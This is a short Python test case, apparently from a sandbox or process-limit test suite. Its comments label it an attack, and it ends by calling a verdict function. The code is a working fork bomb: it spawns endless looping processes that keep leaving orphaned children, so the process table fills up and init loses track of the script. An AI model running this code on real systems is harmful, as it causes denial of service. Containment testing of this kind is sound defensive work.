# attacks: orphans without end, so that init never comes to see that the script has gone
# line: end
# within: 8
def mill():
    while True:
        try:
            if os.fork() == 0:
                os.fork()
                os._exit(0)
            os.waitpid(-1, 0)
        except OSError:
            pass


try:
    for _ in range(6):
        if os.fork() == 0:
            mill()
except OSError:
    pass  # the mills that run already have filled the limit
time.sleep(0.5)
verdict()
os._exit(0)
